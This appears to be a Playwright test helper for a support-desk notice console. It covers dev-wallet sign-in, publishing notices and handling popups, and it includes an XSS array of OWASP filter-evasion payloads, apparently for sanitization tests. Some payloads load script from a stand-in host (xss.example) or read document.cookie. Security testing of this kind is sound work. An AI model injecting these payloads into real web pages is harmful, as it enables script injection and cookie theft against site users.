/**
 * What the support-desk journeys share: the OWASP XSS filter-evasion examples a notice is made of, signing in with
 * the dev wallet (closing the wallet drawer), publishing a notice in the console, and draining the popup notices.
 */
import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { closeWalletDrawer, connectDevWallet, loginState, UI_TIMEOUT } from './harness';

export const OPERATOR = 6; // dev wallet #7: demo_operator, on OPERATOR_ADDRESSES
export const MEMBER = 9; // dev wallet #10: demo_seller

/** Examples from the OWASP XSS Filter Evasion Cheat Sheet. */
export const XSS = [
  `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=\`javascript:alert("RSnake says, 'XSS'")\`>`,
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<TABLE BACKGROUND="javascript:alert('XSS')"><tr><td>t</td></tr></TABLE>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">div</DIV>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>`,
  `<a href="jav&#x09;ascript:alert('XSS');">encoded tab link</a>`,
  `<details open ontoggle=alert(1)>d</details>`,
  `<math><mi xlink:href="javascript:alert(1)">math</mi></math>`,
  `<form><button formaction="javascript:alert(1)">b</button></form>`,
];

export async function confirmOk(page: Page) {
  await page.getByTestId('ok-popup-confirm').click();
  await page.getByTestId('ok-popup').waitFor({ state: 'detached' });
}

export async function signIn(page: Page, account: number) {
  await connectDevWallet(page, account);
  await loginState(page, 'loggedIn');
  await closeWalletDrawer(page);
}

export async function publishNotice(
  page: Page,
  n: { title: string; message: string; popup?: boolean; force?: boolean; pinned?: boolean },
) {
  await page.getByTestId('admin-notice-new').click();
  await page.getByTestId('admin-notice-title').fill(n.title);
  await page.getByTestId('admin-notice-message').fill(n.message);
  if (n.pinned) await page.getByTestId('admin-notice-pinned').check();
  if (n.popup) await page.getByTestId('admin-notice-popup').check();
  if (n.force) await page.getByTestId('admin-notice-force').check();
  await page.getByTestId('admin-notice-save').click();
  await confirmOk(page);
  await page.getByTestId('admin-notice-table').getByText(n.title).waitFor();
}

/** A popup notice as the page reads it (`/support/notice/list`, type 1). */
export interface PopupNotice {
  idx: number;
  flagForce: number;
}

/**
 * Runs `load` (a goto or reload) and returns the popup notices that page load shows, in order. The page asks for its
 * popup notices once per load and shows those not hidden for 24 hours (forced ones always), one at a time; the
 * hidden ones are in its localStorage (`att.noticePopup`: idx -> hidden until, ms; `?nr` has cleared it before the
 * list arrives). Knowing the list, a journey waits for each popup instead of guessing from a timeout whether a late
 * one is still coming.
 */
export async function loadWithNotices(page: Page, load: () => Promise<unknown>): Promise<PopupNotice[]> {
  const [response] = await Promise.all([
    page.waitForResponse(
      (r) =>
        r.url().endsWith('/support/notice/list') &&
        (r.request().postDataJSON() as { type?: number } | null)?.type === 1,
      { timeout: UI_TIMEOUT },
    ),
    load(),
  ]);
  const { list = [] } = (await response.json()) as { list?: PopupNotice[] };
  return page.evaluate((notices) => {
    let hidden: Record<string, number> = {};
    try {
      hidden = JSON.parse(localStorage.getItem('att.noticePopup') ?? '{}') as Record<string, number>;
    } catch {
      // nothing stored that the page could read either
    }
    const now = Date.now();
    return notices
      .filter((n) => n.flagForce === 1 || !((hidden[n.idx] ?? 0) > now))
      .map(({ idx, flagForce }) => ({ idx, flagForce }));
  }, list);
}

/**
 * Handles the popup notices `notices` (from `loadWithNotices`) as they show: closes forced ones, hides the others for
 * 24 hours (or only closes them). Returns what it saw; ends when no popup is left.
 */
export async function drainPopups(
  page: Page,
  notices: PopupNotice[],
  opts: { snooze: boolean },
): Promise<{ idx: string; force: string }[]> {
  const seen: { idx: string; force: string }[] = [];
  const item = page.getByTestId('notice-popup-item');
  for (let i = 0; i < notices.length; i++) {
    await item.waitFor({ timeout: UI_TIMEOUT });
    const idx = (await item.getAttribute('data-idx'))!;
    const force = (await item.getAttribute('data-force'))!;
    seen.push({ idx, force });
    const snooze = page.getByTestId('notice-popup-snooze');
    if (force === '1') expect(await snooze.count()).toBe(0);
    if (opts.snooze && force !== '1') await snooze.click();
    else await page.getByTestId('notice-popup-close').click();
    await page.waitForFunction(
      (prev) => document.querySelector('[data-testid="notice-popup-item"]')?.getAttribute('data-idx') !== prev,
      idx,
      { timeout: UI_TIMEOUT },
    );
  }
  await page.getByTestId('notice-popup').waitFor({ state: 'detached', timeout: UI_TIMEOUT });
  expect(seen.map((n) => Number(n.idx))).toEqual(notices.map((n) => n.idx));
  return seen;
}
